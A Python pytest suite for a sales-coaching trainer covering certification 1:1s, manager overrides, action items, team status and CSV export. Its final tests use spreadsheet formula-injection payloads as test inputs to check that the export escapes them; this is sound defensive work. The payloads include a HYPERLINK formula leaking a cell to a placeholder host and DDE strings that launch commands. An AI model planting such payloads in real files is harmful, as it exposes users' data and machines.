"""The manager's journey in the core, on a real SQLite store and the real drills: the company
profile feeding scoring, 1:1s, the attempt cap, overrides (both judgements kept), certificates
and their due dates on an injected clock, action items, team status, rates and the CSV."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest

from trainer.coaching.certification import (
    CLOSING_QUESTION,
    CSV_HEADER,
    DAY_S,
    FUNDAMENTALS,
    AttemptCapReached,
    CertificationError,
    action_items,
    add_action_item,
    attempts_used,
    carried_over_items,
    certificates,
    certify,
    check_attempt_allowed,
    complete_action_item,
    context_for,
    end_one_on_one,
    export_team_csv,
    one_on_one_of,
    open_action_items,
    record_feedback,
    review,
    session_summary,
    set_override,
    start_one_on_one,
    team_rates,
    team_status,
)
from trainer.coaching.company import (
    CompanyProfileError,
    apply_company,
    approved_stories,
    load_company,
    make_profile,
    save_company,
)
from trainer.coaching.stories import add_story
from trainer.common.errors import StorageError
from trainer.rubric.drills import DrillLibrary
from trainer.rubric.scoring import score_transcript, with_delivery
from trainer.store.database import Seller, Store

SCENARIO = "northwind-finance"
FULL = ("Ledgerly makes close-management software - it automates the month-end "
        "reconciliations that most finance teams still do in spreadsheets. We work with finance "
        "directors and controllers at mid-sized companies, usually ones running more than one "
        "ERP. What they get is a faster close, typically several days faster, plus an audit "
        "trail for every adjustment. Harbor Freightways, for example, went from an eleven-day "
        "close to six in their first quarter with us. And given you said your close is running "
        "twelve days and your auditors keep asking for backup, that's pretty much exactly the "
        "problem we'd go after.")
# Says what, for whom and the outcome; no proof, not tied to Dana: 65 on the transcript,
# 69.6 with engaging delivery met (80 of 115) - just under the pass mark of 70.
NO_PROOF = ("Ledgerly makes close-management software - it automates the month-end "
            "reconciliations that most finance teams still do in spreadsheets. We work with "
            "finance directors and controllers at mid-sized companies. What they get is a faster "
            "close and an audit trail for every adjustment.")


class Clock:
    def __init__(self) -> None:
        self.now = 1_750_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def cstore(tmp_path: Path, clock: Clock) -> Iterator[Store]:
    with Store(tmp_path / "store" / "trainer.sqlite3", clock=clock) as s:
        yield s


@pytest.fixture(scope="module")
def library() -> DrillLibrary:
    return DrillLibrary()


def take(store: Store, library: DrillLibrary, seller: Seller, context: str | None,
         text: str = NO_PROOF, drill_id: str = "value_prop", delivery: bool | None = True
         ) -> int:
    """A scored attempt as the practice screen saves it (delivery judged from a recording)."""
    drill, scenario = library.drill(drill_id), library.scenario(SCENARIO)
    card = score_transcript(drill, text, scenario)
    if delivery is not None and drill.delivery is not None:
        card = with_delivery(card, drill.delivery, delivery, "pace 128 wpm", None)
    attempt_id = store.begin_attempt(seller, drill_id, scenario.id, scenario.to_json(), None,
                                     context=context)
    store.save_result(attempt_id, text, [], card.to_json(), "scripted")
    return attempt_id


# -- company -------------------------------------------------------------------------------
def test_the_company_profile_is_validated_saved_and_feeds_scoring(
        store: Store, library: DrillLibrary) -> None:
    assert load_company(store) is None
    with pytest.raises(CompanyProfileError, match="what the company sells"):
        make_profile(name="Payfield", offering=" ", value_points="x", differentiators="y")
    with pytest.raises(CompanyProfileError, match="at least one differentiator"):
        make_profile(name="Payfield", offering="payroll", value_points="x", differentiators="")
    profile = make_profile(
        name=" Payfield ", offering="payroll outsourcing for seasonal warehouse staff",
        value_points="pays seasonal staff on time\n\n- cuts payroll errors\nPays seasonal "
                     "staff on time", differentiators="\u2022 onboarding in one day")
    assert profile.value_points == ("pays seasonal staff on time", "cuts payroll errors")
    assert profile.differentiators == ("onboarding in one day",)
    save_company(store, profile)
    assert load_company(store) == profile

    bundled = library.scenario(SCENARIO)
    applied = apply_company(bundled, load_company(store))
    assert applied.company["name"] == "Payfield" and applied.id == bundled.id
    assert applied.prospect == bundled.prospect
    assert applied.to_json()["company"]["differentiators"] == ["onboarding in one day"]
    assert apply_company(bundled, None) is bundled
    # The offering is what "says what you do" listens for; the differentiators feed
    # "a specific difference" - the bundled company's words earn neither.
    said = "Payfield does payroll outsourcing for warehouses that hire seasonal staff."
    drill = library.drill("value_prop")
    assert not score_transcript(drill, said, bundled).criteria[0].met
    assert score_transcript(drill, said, applied).criteria[0].met
    differ = "Unlike manual spreadsheets, onboarding takes one day with us."
    card = score_transcript(library.drill("differentiation"), differ, applied)
    assert {c.id: c.met for c in card.criteria}["specific_difference"]


def test_approved_stories_are_the_managers_only(store: Store) -> None:
    add_story(store, title="Harbor close", text="Harbor closed in six days.",
              industry="Logistics", role="Controller", pain="slow close")
    add_story(store, title="Told at story hour", text="A story.", source="story_hour")
    assert [s.title for s in approved_stories(store)] == ["Harbor close"]
    assert approved_stories(store, industry="health") == []


# -- a certification 1:1 -------------------------------------------------------------------
def test_a_certification_with_an_override_keeps_both_judgements(
        cstore: Store, library: DrillLibrary, clock: Clock) -> None:
    with pytest.raises(CertificationError, match="manager's name"):
        start_one_on_one(cstore, "Ben Okafor", "  ")
    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    assert one_on_one_of(session.context) == session.id and one_on_one_of("story_hour:1") is None
    attempt_id = take(cstore, library, session.seller, session.context)
    app = review(cstore, library, attempt_id)
    assert (app.app_score, app.score, app.passed) == (69.6, 69.6, False)
    assert app.criterion("engaging_delivery").weight == 15  # the drill's weight, from the file

    # The manager heard a real proof point the app missed: overridden, both kept.
    changed = set_override(cstore, library, attempt_id, "proof", True, "", "Maria Chen")
    assert changed.score == 82.6 and changed.passed and changed.app_score == 69.6
    with pytest.raises(CertificationError, match="why you changed.*Backs it with proof"):
        certify(cstore, library, session.id, attempt_id)
    set_override(cstore, library, attempt_id, "proof", True,
                 "Named the Harbor result in the role-play", "Maria Chen")
    row = cstore.query("SELECT app_met, met, comment FROM overrides")[0]
    assert (row["app_met"], row["met"], row["comment"]) == (
        0, 1, "Named the Harbor result in the role-play")
    # Agreeing with the app, with a note, is kept too; agreeing silently removes the row.
    set_override(cstore, library, attempt_id, "who_for", True, "Clear audience", "Maria Chen")
    assert review(cstore, library, attempt_id).criterion("who_for").comment == "Clear audience"
    set_override(cstore, library, attempt_id, "who_for", True, "", "Maria Chen")
    assert len(cstore.query("SELECT * FROM overrides")) == 1

    cert = certify(cstore, library, session.id, attempt_id, comments="Ready for calls")
    assert (cert.passed, cert.score, cert.app_score, cert.manager) == (
        True, 82.6, 69.6, "Maria Chen")
    assert cert.due_at == clock.now + 90 * DAY_S
    # Re-certifying the same take (a judgement changed after signing) replaces the record.
    set_override(cstore, library, attempt_id, "proof", False, "", "Maria Chen")
    again = certify(cstore, library, session.id, attempt_id, valid_days=30)
    assert again.id == cert.id and not again.passed and again.due_at is None
    assert len(certificates(cstore)) == 1


def test_the_attempt_cap_counts_this_one_on_ones_takes(cstore: Store,
                                                      library: DrillLibrary) -> None:
    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    take(cstore, library, session.seller, None)  # practice: not counted
    take(cstore, library, session.seller, context_for(session.id + 1))  # another 1:1
    assert check_attempt_allowed(cstore, session, "value_prop", "Value", 2) == 1
    take(cstore, library, session.seller, session.context)
    failed = cstore.begin_attempt(session.seller, "value_prop", SCENARIO, None, None,
                                  context=session.context)
    cstore.mark_failed(failed, "We didn't hear you.")  # a dead microphone costs nothing
    assert attempts_used(cstore, session.id, "value_prop") == 1
    assert check_attempt_allowed(cstore, session, "value_prop", "Value", 2) == 2
    take(cstore, library, session.seller, session.context)
    with pytest.raises(AttemptCapReached) as raised:
        check_attempt_allowed(cstore, session, "value_prop", "Deliver the value proposition", 2)
    assert str(raised.value) == (
        "Ben Okafor has used all 2 attempts at \u201cDeliver the value proposition\u201d in "
        "this 1:1; certify the best take or continue in the next 1:1.")
    assert check_attempt_allowed(cstore, session, "agenda", "Agenda", 2) == 1
    assert check_attempt_allowed(cstore, session, "value_prop", "Value", None) == 3


def test_only_a_take_of_this_one_on_one_can_be_certified(cstore: Store,
                                                         library: DrillLibrary) -> None:
    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    practice = take(cstore, library, session.seller, None, FULL)
    with pytest.raises(CertificationError, match="recorded in this 1:1"):
        certify(cstore, library, session.id, practice)
    with pytest.raises(CertificationError, match="not scored on"):
        set_override(cstore, library, practice, "time_check", True, "x", "Maria Chen")


def test_action_items_come_back_at_the_next_one_on_one(cstore: Store, library: DrillLibrary,
                                                       clock: Clock) -> None:
    first = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    with pytest.raises(CertificationError, match="who owns"):
        add_action_item(cstore, first.id, "Send the deck", " ", None)
    deck = add_action_item(cstore, first.id, "Send Dana the close checklist", "Ben Okafor",
                           clock.now + 7 * DAY_S)
    add_action_item(cstore, first.id, "Book a ride-along", "Maria Chen", clock.now + 3 * DAY_S)
    done = add_action_item(cstore, first.id, "Rewrite the agenda", "Ben Okafor", None)
    complete_action_item(cstore, done.id)
    record_feedback(cstore, first.id, "Useful; keep the role-play, start earlier.")
    ended = end_one_on_one(cstore, first.id)
    assert ended.ended_at == clock.now and ended.feedback.startswith("Useful")
    other = start_one_on_one(cstore, "Ana Lopez", "Maria Chen")
    add_action_item(cstore, other.id, "Not Ben's", "Ana Lopez", None)

    clock.now += 14 * DAY_S
    second = start_one_on_one(cstore, "ben okafor", "Maria Chen")
    assert second.seller == first.seller
    carried = open_action_items(cstore, second.seller.id, excluding=second.id)
    assert [i.text for i in carried] == ["Book a ride-along", "Send Dana the close checklist"]
    add_action_item(cstore, second.id, "New this time", "Ben Okafor", None)
    assert [i.text for i in open_action_items(cstore, second.seller.id,
                                              excluding=second.id)] == [i.text for i in carried]
    complete_action_item(cstore, deck.id)
    assert len(open_action_items(cstore, second.seller.id, excluding=second.id)) == 1
    # Ticked off in this 1:1, it stays on this 1:1's wrap-up (and its PDF), marked done;
    # the one done before this 1:1 does not come back.
    carried = carried_over_items(cstore, second)
    assert [(i.text, i.done) for i in carried] == [
        ("Book a ride-along", False), ("Send Dana the close checklist", True)]
    assert [i.text for i in action_items(cstore, second.id)] == ["New this time"]
    assert CLOSING_QUESTION == "How was this 1:1 \u2014 useful? What should we keep or change?"


def test_the_session_summary_has_the_certified_take(cstore: Store,
                                                    library: DrillLibrary) -> None:
    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    best = take(cstore, library, session.seller, session.context, FULL)
    take(cstore, library, session.seller, session.context)  # a later, weaker take
    certify(cstore, library, session.id, best)
    add_action_item(cstore, session.id, "Practise the story", "Ben Okafor", None)
    summary = session_summary(cstore, library, session.id)
    assert [(t.review.attempt_id, t.attempts_used) for t in summary.takes] == [(best, 2)]
    assert summary.takes[0].certificate is not None and summary.takes[0].review.passed
    assert [i.text for i in summary.action_items] == ["Practise the story"]


# -- the team ------------------------------------------------------------------------------
def test_team_status_moves_from_certified_to_due_to_expired(
        cstore: Store, library: DrillLibrary, clock: Clock, tmp_path: Path) -> None:
    ben = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    weak = take(cstore, library, ben.seller, ben.context)
    certify(cstore, library, ben.id, weak)  # 69.6: not yet
    strong = take(cstore, library, ben.seller, ben.context, FULL)
    certify(cstore, library, ben.id, strong)
    cstore.seller("Ana Lopez")  # practised, never certified

    def status(name: str, drill: str = "value_prop") -> str:
        rows = team_status(cstore, library)
        return next(r for r in rows if r.seller.name == name and r.drill_id == drill).status

    rows = team_status(cstore, library)
    assert len(rows) == 2 * len(library.drills())
    ben_vp = next(r for r in rows if r.seller.name == "Ben Okafor" and r.drill_id == "value_prop")
    assert (ben_vp.status, ben_vp.score, ben_vp.certificates) == ("certified", 100.0, 2)
    assert ben_vp.trend == (69.6, 100.0) and ben_vp.trend_word == "up"
    assert status("Ana Lopez") == "never" and status("Ben Okafor", "agenda") == "never"
    clock.now += 80 * DAY_S
    assert status("Ben Okafor") == "due"
    clock.now += 10 * DAY_S
    assert status("Ben Okafor") == "expired"

    ana = start_one_on_one(cstore, "Ana Lopez", "Maria Chen")
    take(cstore, library, ana.seller, ana.context)  # performed, not certified
    assert status("Ana Lopez") == "not yet"

    path = export_team_csv(cstore, library, tmp_path / "out" / "team.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert tuple(table[0]) == CSV_HEADER
    by_key = {(r[0], r[1]): dict(zip(CSV_HEADER, r, strict=True)) for r in table[1:]}
    assert len(by_key) == 2 * len(library.drills())
    ben_row = by_key[("Ben Okafor", "value_prop")]
    assert (ben_row["status"], ben_row["latest_score"], ben_row["trend"], ben_row["scores"]) \
        == ("expired", "100", "up", "69.6 100")
    assert ben_row["recertify_by"] != "" and ben_row["manager"] == "Maria Chen"
    assert by_key[("Ana Lopez", "value_prop")]["status"] == "not yet"
    blocked = tmp_path / "blocked"
    blocked.write_text("a file, not a folder")
    with pytest.raises(StorageError, match="Could not write"):
        export_team_csv(cstore, library, blocked / "team.csv")


def test_team_rates_use_each_sellers_latest_reviewed_take(cstore: Store,
                                                          library: DrillLibrary) -> None:
    assert [f.benchmark for f in FUNDAMENTALS] == [0.41, 0.44, 0.50, 0.53, 0.57]
    rates = {r.fundamental.id: r for r in team_rates(cstore, library)}
    assert all(r.total == 0 and r.rate is None for r in rates.values())

    ben = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    take(cstore, library, ben.seller, ben.context)  # earlier take: superseded
    take(cstore, library, ben.seller, ben.context, FULL)  # effective
    ana = start_one_on_one(cstore, "Ana Lopez", "Maria Chen")
    ana_take = take(cstore, library, ana.seller, ana.context, delivery=False)
    take(cstore, library, ana.seller, None, FULL)  # practice never counts
    rates = {r.fundamental.id: r for r in team_rates(cstore, library)}
    assert (rates["value_prop"].effective, rates["value_prop"].total) == (1, 2)
    assert (rates["engaging_delivery"].effective, rates["engaging_delivery"].total) == (1, 2)
    assert rates["client_story"].total == 0
    # The manager's judgement counts: Ana's proof and delivery were there after all.
    set_override(cstore, library, ana_take, "proof", True, "Gave the Harbor numbers", "M")
    set_override(cstore, library, ana_take, "engaging_delivery", True, "Lively", "M")
    rates = {r.fundamental.id: r for r in team_rates(cstore, library)}
    assert rates["value_prop"].rate == 1.0 and rates["engaging_delivery"].rate == 1.0


# -- the CSV is safe to open in a spreadsheet ----------------------------------------------
HOSTILE_CELLS = ('=HYPERLINK("http://x.example/?leak="&A1,"y")', "+cmd|' /C calc'!A0",
                 "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\uff1dSUM(A1)")


@pytest.mark.parametrize("name", HOSTILE_CELLS)
def test_the_team_csv_never_starts_a_cell_with_a_formula(
        cstore: Store, library: DrillLibrary, tmp_path: Path, name: str) -> None:
    session = start_one_on_one(cstore, name, "=cmd|' /C notepad'!A0")
    certify(cstore, library, session.id, take(cstore, library, session.seller, session.context))
    path = export_team_csv(cstore, library, tmp_path / "team.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = [dict(zip(CSV_HEADER, r, strict=True)) for r in list(csv.reader(f))[1:]]
    vp = next(r for r in rows if r["drill"] == "value_prop")
    # The text as typed, behind the quote a spreadsheet shows as "text, not a formula".
    assert vp["seller"] == "'" + name and vp["manager"] == "'=cmd|' /C notepad'!A0"
    assert vp["latest_score"] == "69.6" and vp["certificates"] == "1"  # numbers stay numbers
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row


def test_csv_cells_follow_the_owasp_rule_and_keep_numbers() -> None:
    from trainer.common.formatting import csv_cell

    for text in ("=1+2", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for text in ("Ana Lopez", "O'Brien", "1-2", "", " =not at the start"):
        assert csv_cell(text) == text
    # Numbers we write ourselves are numbers, a negative one included; None is empty.
    assert [csv_cell(v) for v in (-3, -2.5, 69.6, 100.0, 0, None)] == [
        "-3", "-2.5", "69.6", "100", "0", ""]


def test_one_rounding_rule_for_scores_and_one_for_weights() -> None:
    from trainer.common.formatting import format_score, weight_points

    # Whole points, half up; never a rounded number on the wrong side of the pass mark.
    assert [format_score(s) for s in (73.9, 73.5, 73.4, 87.0, 0.0, 100.0)] == [
        "74", "74", "73", "87", "0", "100"]
    assert format_score(69.6, 70) == "69.6" and format_score(69.96, 70) == "69.9"
    assert format_score(69.4, 70) == "69" and format_score(70.0, 70) == "70"
    assert format_score(73.9, 70) == "74" and format_score(70.4, 70.3) == "70.4"
    # The brief's points: 25/15/25/15/20/15 (115) is 22/13/22/13/17/13, always 100 in all.
    assert weight_points([25, 15, 25, 15, 20, 15]) == [22, 13, 22, 13, 17, 13]
    assert sum(weight_points([1, 1, 1])) == 100 and weight_points([0, 0]) == [0, 0]


def test_a_review_shows_its_score_and_points_as_the_brief_does(
        cstore: Store, library: DrillLibrary) -> None:
    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
    r = review(cstore, library, take(cstore, library, session.seller, session.context))
    assert (r.score, r.passed, r.score_text) == (69.6, False, "69.6")  # not "70 NOT YET"
    assert [c.points for c in r.criteria] == [22, 13, 22, 13, 17, 13]
    overridden = set_override(cstore, library, r.attempt_id, "proof", True, "heard", "M")
    assert (overridden.score_text, overridden.app_score_text) == ("83", "69.6")
